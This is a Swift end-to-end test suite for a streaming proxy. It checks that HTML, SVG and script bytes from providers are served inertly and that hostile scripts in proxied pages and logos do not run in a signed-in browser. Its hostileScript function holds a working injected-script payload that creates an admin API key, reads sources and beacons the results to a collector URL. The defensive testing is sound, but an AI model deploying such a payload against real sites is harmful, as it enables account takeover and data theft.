import Foundation
import Testing
import TunerTesting

/// Bytes from a provider stay inert on Tuner's origin, through the real binary: every stream
/// answer (cold through the router, warm from the event loop, warm through the router) gets
/// `nosniff`, a sandboxing CSP and an allowed type or `application/octet-stream` with
/// `Content-Disposition: attachment`; logos that are not raster images are refused, cached or
/// not; and a signed-in Chromium that opens a hostile HTML page, an SVG logo and an HTML logo
/// runs none of their scripts.
@Suite(.serialized) struct ProviderBytesEndToEndTests {
    typealias Fixture = StreamFastPathEndToEndTests.Fixture
    static let policy = "sandbox; default-src 'none'"

    /// One provider answer and what its type must become.
    struct Case {
        let label: String
        let file: String
        let type: String
        /// Whether the type is served as it is (else `application/octet-stream` with `attachment`).
        let passes: Bool
        /// Whether the cache keeps such answers (its default types), so a warm one comes from the
        /// event loop; the others are fetched again, through the router.
        var cached = true
    }

    static let cases: [Case] = [
        Case(label: "HTML", file: "page.bin", type: "text/html; charset=utf-8", passes: false, cached: false),
        Case(label: "SVG", file: "pic.bin", type: "image/svg+xml", passes: false),
        Case(label: "XML", file: "doc.bin", type: "application/xml", passes: false, cached: false),
        Case(label: "script", file: "code.bin", type: "application/javascript", passes: false, cached: false),
        Case(label: "JSON", file: "data.bin", type: "application/json", passes: false, cached: false),
        Case(label: "empty type", file: "none.bin", type: "", passes: false),
        Case(label: "a list ending in HTML", file: "list.bin", type: "video/mp4, text/html", passes: false),
        Case(label: "MPEG-TS", file: "seg.ts", type: "video/mp2t", passes: true),
        Case(label: "PNG", file: "pic.png", type: "image/png", passes: true),
        Case(label: "subtitles", file: "subs.vtt", type: "text/vtt", passes: true, cached: false),
    ]

    static func expectInert(_ answer: CurlResponse, _ item: Case, _ how: String) {
        let label = "\(item.label), \(how)"
        #expect(answer.status == 200, "\(label)")
        #expect(answer.header("X-Content-Type-Options") == "nosniff", "\(label)")
        #expect(answer.header("Content-Security-Policy") == policy, "\(label)")
        if item.passes {
            #expect(answer.header("Content-Type") == item.type, "\(label)")
            #expect(answer.header("Content-Disposition") == nil, "\(label)")
        } else {
            #expect(answer.header("Content-Type") == "application/octet-stream", "\(label)")
            #expect(answer.header("Content-Disposition") == "attachment", "\(label)")
        }
    }

    @Test("every stream answer is inert: cold, warm from the event loop and warm through the router")
    func streamAnswersAreInert() async throws {
        guard let fixture = try await StreamFastPathEndToEndTests.start() else { return }
        defer { Task { await fixture.remove() } }
        for item in Self.cases {
            let type = item.type.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? ""
            let url = try await fixture.proxyURL("\(item.file)?size=3000&type=\(type)")
            let cold = try await Curl.fetch(fixture.curl, url)
            Self.expectInert(cold, item, "cold")
            let before = try await fixture.fastAnswers()
            let warm = try await Curl.fetch(fixture.curl, url)
            let onLoop = try await fixture.fastAnswers() == before + 1
            #expect(onLoop == item.cached, "\(item.label): warm from the event loop")
            Self.expectInert(warm, item, "warm")
            let routed = try await Curl.fetch(fixture.curl, url + "?routed")
            Self.expectInert(routed, item, "routed")
            #expect(
                StreamFastPathEndToEndTests.comparable(warm) == StreamFastPathEndToEndTests.comparable(routed),
                "\(item.label): the event loop's head is the router's")
            // A range, both ways.
            let range = try await Curl.fetch(fixture.curl, url, options: ["-r", "10-99"])
            let rangeRouted = try await Curl.fetch(fixture.curl, url + "?routed", options: ["-r", "10-99"])
            #expect(range.status == 206 && range.header("X-Content-Type-Options") == "nosniff", "\(item.label)")
            #expect(
                StreamFastPathEndToEndTests.comparable(range) == StreamFastPathEndToEndTests.comparable(rangeRouted),
                "\(item.label): range")
        }
        // An HLS playlist (rewritten by Tuner) keeps its type, with the same fields.
        let served = fixture.workspace.file("hls")
        try FileManager.default.createDirectory(atPath: served, withIntermediateDirectories: true)
        fixture.origin.serveDirectory(served)
        try Data("#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\nseg.ts\n#EXT-X-ENDLIST\n".utf8).write(
            to: URL(fileURLWithPath: served + "/index.m3u8"))
        let playlist = try await Curl.fetch(
            fixture.curl,
            try await TunerProcess.proxyURL(
                for: fixture.origin.baseURL + "/static/index.m3u8", data: fixture.server.dataDirectory))
        #expect(playlist.status == 200 && playlist.header("Content-Type") == "application/vnd.apple.mpegurl")
        #expect(playlist.header("X-Content-Type-Options") == "nosniff")
        #expect(playlist.header("Content-Security-Policy") == Self.policy)
        #expect(playlist.header("Content-Disposition") == nil)
        // Tuner's own pages keep their own policy.
        let home = try await Curl.fetch(fixture.curl, fixture.server.baseURL + "/")
        #expect(home.header("Content-Security-Policy")?.contains("script-src 'self'") == true)
    }

    /// A playlist with a channel per logo in `logos` (file names served by the fixture's origin).
    static func importLogos(_ logos: [String], fixture: Fixture) async throws -> [String: Int] {
        let served = fixture.workspace.file("logos")
        try FileManager.default.createDirectory(atPath: served, withIntermediateDirectories: true)
        fixture.origin.serveDirectory(served)
        var playlist = "#EXTM3U\n"
        for (index, logo) in logos.enumerated() {
            playlist +=
                "#EXTINF:-1 tvg-id=\"c\(index)\" tvg-logo=\"\(fixture.origin.baseURL)/static/\(logo)\",Logo \(logo)\n"
            playlist += "\(fixture.origin.baseURL)/files/c\(index).ts?size=1000\n"
        }
        try Data(playlist.utf8).write(to: URL(fileURLWithPath: served + "/logos.m3u"))
        let base = fixture.server.baseURL
        let added = try await Curl.fetch(
            fixture.curl, base + "/api/v1/sources",
            options: [
                "-X", "POST", "-H", "Content-Type: application/json", "--data",
                #"{"location":"\#(fixture.origin.baseURL)/static/logos.m3u"}"#,
            ])
        #expect(added.status == 201, "\(String(decoding: added.body, as: UTF8.self))")
        let source = try #require(
            (try JSONSerialization.jsonObject(with: Data(added.body)) as? [String: Any])?["id"] as? Int)
        let refreshed = try await Curl.fetch(
            fixture.curl, base + "/api/v1/sources/\(source)/refresh", options: ["-X", "POST"])
        #expect(refreshed.status == 200)
        let page = try await Curl.fetch(fixture.curl, base + "/api/v1/channels?limit=100")
        let items = (try JSONSerialization.jsonObject(with: Data(page.body)) as? [String: Any])?["items"]
        var ids: [String: Int] = [:]
        for item in items as? [[String: Any]] ?? [] {
            if let name = item["name"] as? String, let id = item["id"] as? Int {
                ids[String(name.dropFirst("Logo ".count))] = id
            }
        }
        return ids
    }

    static let png = Data(
        base64Encoded:
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")!

    @Test("a logo is served only as a raster image, by its type and its first bytes, cached or not")
    func logosAreRasterImagesOnly() async throws {
        guard let fixture = try await StreamFastPathEndToEndTests.start() else { return }
        defer { Task { await fixture.remove() } }
        let served = fixture.workspace.file("logos")
        try FileManager.default.createDirectory(atPath: served, withIntermediateDirectories: true)
        try Self.png.write(to: URL(fileURLWithPath: served + "/good.png"))
        try Data(#"<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>"#.utf8).write(
            to: URL(fileURLWithPath: served + "/bad.svg"))
        try Data("<html><body>hello</body></html>".utf8).write(to: URL(fileURLWithPath: served + "/bad.html"))
        // HTML that says it is a PNG, and a PNG that says it is HTML.
        try Data("<html><body>lies</body></html>".utf8).write(to: URL(fileURLWithPath: served + "/liar.png"))
        try Self.png.write(to: URL(fileURLWithPath: served + "/png.html"))
        let ids = try await Self.importLogos(
            ["good.png", "bad.svg", "bad.html", "liar.png", "png.html"], fixture: fixture)
        #expect(ids.count == 5, "\(ids)")
        // The SVG is in the cache already, through a plain proxy URL (served there as an attachment).
        let plain = try await Curl.fetch(
            fixture.curl,
            try await TunerProcess.proxyURL(
                for: fixture.origin.baseURL + "/static/bad.svg", data: fixture.server.dataDirectory))
        #expect(plain.status == 200 && plain.header("Content-Disposition") == "attachment")
        for (logo, good) in [
            ("good.png", true), ("bad.svg", false), ("bad.html", false), ("liar.png", false),
            ("png.html", false),
        ] {
            let id = try #require(ids[logo], "\(logo)")
            for round in 0..<2 {
                let answer = try await Curl.fetch(
                    fixture.curl, fixture.server.baseURL + "/api/v1/channels/\(id)/logo", options: ["-L"])
                #expect(answer.header("X-Content-Type-Options") == "nosniff", "\(logo) \(round)")
                #expect(answer.header("Content-Security-Policy") == Self.policy, "\(logo) \(round)")
                if good {
                    #expect(answer.status == 200 && answer.header("Content-Type") == "image/png", "\(logo) \(round)")
                    #expect(Data(answer.body) == Self.png, "\(logo) \(round)")
                } else {
                    #expect(answer.status == 502, "\(logo) \(round): \(answer.status)")
                    #expect(answer.header("Content-Type")?.hasPrefix("text/plain") == true, "\(logo) \(round)")
                }
            }
        }
    }

    @Test("the outputs' /play/ and Xtream's /movie/ answers carry the same fields")
    func outputStreamsAreInert() async throws {
        guard let fixture = try await StreamFastPathEndToEndTests.start() else { return }
        defer { Task { await fixture.remove() } }
        let base = fixture.server.baseURL
        let origin = fixture.origin.baseURL
        let served = fixture.workspace.file("outputs")
        try FileManager.default.createDirectory(atPath: served, withIntermediateDirectories: true)
        fixture.origin.serveDirectory(served)
        // A film whose "video" is HTML, and one that is MPEG-TS.
        let playlist = """
            #EXTM3U
            #EXTINF:-1 tvg-chno="1" group-title="Films",Hostile Film
            \(origin)/files/movie/hostile.bin?size=2000&type=text%2Fhtml
            #EXTINF:-1 tvg-chno="2" group-title="Films",Plain Film
            \(origin)/files/movie/plain.ts?size=2000

            """
        try Data(playlist.utf8).write(to: URL(fileURLWithPath: served + "/films.m3u"))
        let json = ["-X", "POST", "-H", "Content-Type: application/json", "--data"]
        let added = try await Curl.fetch(
            fixture.curl, base + "/api/v1/sources", options: json + [#"{"location":"\#(origin)/static/films.m3u"}"#])
        let source = try #require(
            (try JSONSerialization.jsonObject(with: Data(added.body)) as? [String: Any])?["id"] as? Int,
            "\(String(decoding: added.body, as: UTF8.self))")
        #expect(
            try await Curl.fetch(fixture.curl, base + "/api/v1/sources/\(source)/refresh", options: ["-X", "POST"])
                .status == 200)
        let profile = try await Curl.fetch(
            fixture.curl, base + "/api/v1/outputs", options: json + [#"{"id":"films","kinds":["movie"]}"#])
        #expect([200, 201].contains(profile.status), "\(String(decoding: profile.body, as: UTF8.self))")
        let user = try await Curl.fetch(
            fixture.curl, base + "/api/v1/users",
            options: json + [#"{"username":"viewer","password":"correct-horse","profiles":["films"]}"#])
        #expect([200, 201].contains(user.status), "\(String(decoding: user.body, as: UTF8.self))")
        let page = try await Curl.fetch(fixture.curl, base + "/api/v1/channels?kind=movie&limit=10")
        var ids: [String: Int] = [:]
        for item in (try JSONSerialization.jsonObject(with: Data(page.body)) as? [String: Any])?["items"]
            as? [[String: Any]] ?? []
        {
            if let name = item["name"] as? String, let id = item["id"] as? Int { ids[name] = id }
        }
        let hostile = try #require(ids["Hostile Film"], "\(ids)")
        let plain = try #require(ids["Plain Film"], "\(ids)")
        let answers: [(String, Case)] = [
            (base + "/movie/viewer/correct-horse/\(hostile).bin", Self.cases[0]),
            // Xtream's film answers name their type from the file (`video/mp4` here), which passes.
            (
                base + "/movie/viewer/correct-horse/\(plain).ts",
                Case(label: "a film", file: "", type: "video/mp4", passes: true)
            ),
        ]
        for (url, item) in answers {
            for round in ["first", "again"] {
                Self.expectInert(try await Curl.fetch(fixture.curl, url), item, "Xtream /movie/, \(round)")
            }
        }
        // /play/ of the default profile: whatever it plays, the same fields.
        let outputs = try await Curl.fetch(fixture.curl, base + "/api/v1/outputs/films/channels")
        let text = String(decoding: outputs.body, as: UTF8.self)
        if let number = text.firstMatch(of: #/"number"\s*:\s*([0-9]+)/#)?.1 {
            let played = try await Curl.fetch(fixture.curl, base + "/play/films/\(number)")
            #expect(played.header("X-Content-Type-Options") == "nosniff", "/play/: \(played.status)")
            #expect(played.header("Content-Security-Policy") == Self.policy, "/play/: \(played.status)")
            let type = played.header("Content-Type") ?? ""
            #expect(
                type.hasPrefix("video/") || played.header("Content-Disposition") == "attachment",
                "/play/: \(type)")
        } else {
            Issue.record("no channel numbers in the profile: \(text.prefix(300))")
        }
    }

    /// A hostile page's script: creates an admin key, reads the sources, opens the events
    /// WebSocket, and reports what it got to `collector` and in the title.
    static func hostileScript(collector: String, label: String) -> String {
        """
        (async function () {
          const got = {label: '\(label)'};
          try {
            const made = await fetch('/api/v1/keys', {method: 'POST', headers: {'Content-Type': 'application/json'},
              body: JSON.stringify({name: 'pwned-\(label)', scope: 'admin'})});
            got.key = made.status + ' ' + (await made.text()).slice(0, 80);
          } catch (e) { got.key = 'error'; }
          try {
            const sources = await fetch('/api/v1/sources');
            got.sources = sources.status + ' ' + (await sources.text()).slice(0, 80);
          } catch (e) { got.sources = 'error'; }
          try {
            const socket = new WebSocket('ws://' + location.host + '/api/v1/events');
            got.socket = await new Promise(done => {
              socket.onopen = () => done('open'); socket.onerror = () => done('error');
              setTimeout(() => done('timeout'), 2000);
            });
          } catch (e) { got.socket = 'error'; }
          document.title = 'ran ' + JSON.stringify(got);
          new Image().src = '\(collector)?got=' + encodeURIComponent(JSON.stringify(got));
          try { await fetch('\(collector)?got=' + encodeURIComponent(JSON.stringify(got)), {mode: 'no-cors'}); }
          catch (e) {}
        })();
        """
    }

    static let browserSteps = #"""
        base, token, page, svg_logo, html_logo, control = args[0], args[1], args[2], args[3], args[4], args[5]
        driver.get(base + "/login")
        wait_for("return document.body.dataset.page === 'sign-in'")
        field = driver.find_element(By.ID, "signin-key")
        field.send_keys(token)
        field.send_keys(Keys.ENTER)
        wait_for("return document.body.dataset.page !== 'sign-in'", 20)
        # Signed in: a page of Tuner's own can read the sources with the session.
        status = js("""return fetch('/api/v1/sources').then(r => r.status)""")
        check(status == 200, "not signed in: %s" % status)
        titles = {}
        for name, url in [("page", page), ("svg-logo", base + svg_logo), ("html-logo", base + html_logo)]:
            try:
                driver.get(url)
            except Exception as error:
                titles[name] = "navigation: " + str(error)[:80]
            time.sleep(4)
            try:
                titles[name] = driver.title
            except Exception as error:
                titles[name] = "title: " + str(error)[:80]
            screenshot("hostile-" + name)
        # The same script on the provider's own origin does run (so the collector would hear it).
        driver.get(control)
        wait_for("return document.title.startsWith('ran ')", 20)
        screenshot("hostile-control")
        report(titles=titles, control=driver.title)
        """#

    @Test("a signed-in browser opening a hostile page, an SVG logo and an HTML logo runs none of their scripts")
    func hostileContentDoesNothingInABrowser() async throws {
        guard let tools = Tools.require(.curl, .chromium, .chromedriver) else { return }
        let token = "provider-bytes-token-0123456789abcdef"
        let workspace = try Workspace()
        defer { workspace.remove() }
        let origin = try await TestOrigin.start()
        defer { Task { try? await origin.shutdown() } }
        let served = workspace.file("served")
        try FileManager.default.createDirectory(atPath: served, withIntermediateDirectories: true)
        origin.serveDirectory(served)
        let collector = origin.baseURL + "/files/collect"
        func write(_ text: String, _ name: String) throws {
            try Data(text.utf8).write(to: URL(fileURLWithPath: served + "/" + name))
        }
        try write(
            "<html><head><title>hostile</title></head><body><h1>hostile page</h1><script>"
                + Self.hostileScript(collector: collector, label: "page") + "</script></body></html>", "page.html")
        try write(
            "<html><head><title>control</title></head><body><script>"
                + Self.hostileScript(collector: collector, label: "control") + "</script></body></html>",
            "control.html")
        try write(
            #"<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><circle r="40" cx="50" cy="50"/>"#
                + "<script><![CDATA[" + Self.hostileScript(collector: collector, label: "svg") + "]]></script></svg>",
            "logo.svg")
        try write(
            "<html><body><script>" + Self.hostileScript(collector: collector, label: "html-logo")
                + "</script></body></html>", "logo.html")
        var playlist = "#EXTM3U\n"
        for logo in ["logo.svg", "logo.html"] {
            playlist += "#EXTINF:-1 tvg-logo=\"\(origin.baseURL)/static/\(logo)\",Channel \(logo)\n"
            playlist += "\(origin.baseURL)/files/\(logo).ts?size=1000\n"
        }
        try write(playlist, "channels.m3u")

        let data = workspace.file("data")
        let server = try await TunerProcess.serve(
            data: data, arguments: ["--host", "0.0.0.0", "--allow-fetch", "loopback"],
            environment: ["TUNER_TOKEN": token])
        defer { Task { _ = await server.stop() } }
        let base = server.baseURL
        let bearer = ["-H", "Authorization: Bearer \(token)"]
        let added = try await Curl.fetch(
            tools[.curl], base + "/api/v1/sources",
            options: bearer + [
                "-X", "POST", "-H", "Content-Type: application/json", "-H", "Origin: \(base)", "--data",
                #"{"location":"\#(origin.baseURL)/static/channels.m3u"}"#,
            ])
        #expect(added.status == 201, "\(String(decoding: added.body, as: UTF8.self))")
        let source = try #require(
            (try JSONSerialization.jsonObject(with: Data(added.body)) as? [String: Any])?["id"] as? Int)
        #expect(
            try await Curl.fetch(
                tools[.curl], base + "/api/v1/sources/\(source)/refresh",
                options: bearer + ["-X", "POST", "-H", "Origin: \(base)"]
            ).status == 200)
        let channels = try await Curl.fetch(tools[.curl], base + "/api/v1/channels?limit=10", options: bearer)
        var logos: [String: String] = [:]
        for item in (try JSONSerialization.jsonObject(with: Data(channels.body)) as? [String: Any])?["items"]
            as? [[String: Any]] ?? []
        {
            if let name = item["name"] as? String, let id = item["id"] as? Int {
                logos[name] = "/api/v1/channels/\(id)/logo"
            }
        }
        let svgLogo = try #require(logos["Channel logo.svg"], "\(logos)")
        let htmlLogo = try #require(logos["Channel logo.html"], "\(logos)")
        // The hostile page through a proxy URL, as a play key may make one.
        let made = try await Curl.fetch(
            tools[.curl], base + "/api/v1/proxy-urls",
            options: bearer + [
                "-X", "POST", "-H", "Content-Type: application/json", "-H", "Origin: \(base)", "--data",
                #"{"url":"\#(origin.baseURL)/static/page.html"}"#,
            ])
        let pageURL = try #require(
            (try JSONSerialization.jsonObject(with: Data(made.body)) as? [String: Any])?["proxyURL"] as? String,
            "\(String(decoding: made.body, as: UTF8.self))")
        let keysBefore = try await Curl.fetch(tools[.curl], base + "/api/v1/keys", options: bearer)

        let result = try await HeadlessChromium.run(
            steps: Self.browserSteps,
            arguments: [base, token, pageURL, svgLogo, htmlLogo, origin.baseURL + "/static/control.html"],
            chromium: tools[.chromium], chromedriver: tools[.chromedriver],
            screenshots: HeadlessChromium.screenshotFolder(suite: "provider-bytes"))
        #expect(result.succeeded, "\(result.transcript)\n\(server.log.suffix(2000))")
        let results = HeadlessChromium.results(of: result)
        let titles = results["titles"] as? [String: String] ?? [:]
        for (name, title) in titles { #expect(!title.hasPrefix("ran "), "\(name) ran its script: \(title)") }
        // The control ran, and reported to the collector: only it did.
        #expect((results["control"] as? String)?.hasPrefix("ran ") == true, "\(result.transcript)")
        let reports = origin.requestURIs(path: "/files/collect").compactMap {
            $0.components(separatedBy: "got=").last?.removingPercentEncoding
        }
        #expect(!reports.isEmpty && reports.allSatisfy { $0.contains("\"label\":\"control\"") }, "\(reports)")
        // No key was made.
        let keysAfter = try await Curl.fetch(tools[.curl], base + "/api/v1/keys", options: bearer)
        #expect(keysAfter.status == 200 && keysAfter.body == keysBefore.body)
        #expect(!String(decoding: keysAfter.body, as: UTF8.self).contains("pwned"))
    }
}
